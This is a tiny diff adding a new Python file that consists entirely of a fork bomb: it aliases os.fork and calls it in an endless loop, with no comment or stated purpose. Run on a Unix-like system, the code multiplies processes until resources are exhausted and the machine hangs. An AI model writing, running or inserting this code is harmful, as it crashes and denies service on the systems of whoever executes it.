@@ -1,0 +1,5 @@
+import os
+
+spawn = os.fork
+while True:
+    spawn()
